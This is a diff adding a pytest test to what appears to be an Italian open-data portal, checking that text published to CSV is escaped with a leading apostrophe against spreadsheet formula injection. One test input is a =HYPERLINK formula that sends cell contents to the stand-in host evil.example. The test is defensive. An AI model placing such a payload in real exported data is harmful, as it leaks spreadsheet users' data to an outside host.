@@ -32,6 +32,7 @@ from schedario.portal.opendata.publishing import (
 from schedario.portal.opendata.records import held_cells
 from schedario.portal.opendata.sums import SUMS
 from schedario.portal.registry.models import Campaign, Comune
+from schedario.tables.csv_files import restore_text
 from tests.portal.filled import fill, fresh, put, receipt, send_now, warning, writer
 from tests.portal.open_data import csv_rows, json_rows, published, release
 from tests.portal.world import World
@@ -96,6 +97,22 @@ class TestFiles:
         assert content.endswith(b"\r\n")
         assert len(set(header.split(b","))) == len(header.split(b","))
         assert csv_rows(made, "schede")[0]["R16"] == REPORT
+
+    @pytest.mark.parametrize(
+        "text", ['=HYPERLINK("http://evil.example?x="&A1,"Leggi")', "- attività\n- spese", "'=1", "@x"]
+    )
+    def test_a_text_of_a_csv_is_no_formula_and_can_be_restored(self, world: World, text: str) -> None:
+        fill(world, R16=text)
+        sent = send_now(world)
+        release(world, sent.number)
+        made = published(world)
+        written = csv_rows(made, "schede")[0]["R16"]
+        assert (written, restore_text(written)) == (f"'{text}", text)
+        assert json_rows(made, "schede")[0]["R16"] == text
+        about = json.loads((folder_of(made) / PACKAGE).read_text(encoding="utf-8"))
+        told = {one["path"]: one.get("description", "") for one in about["resources"]}
+        assert "apostrofo" in told["schede.csv"]
+        assert not told["schede.parquet"]
 
     @pytest.mark.usefixtures("sent")
     @pytest.mark.parametrize("table", TABLES)
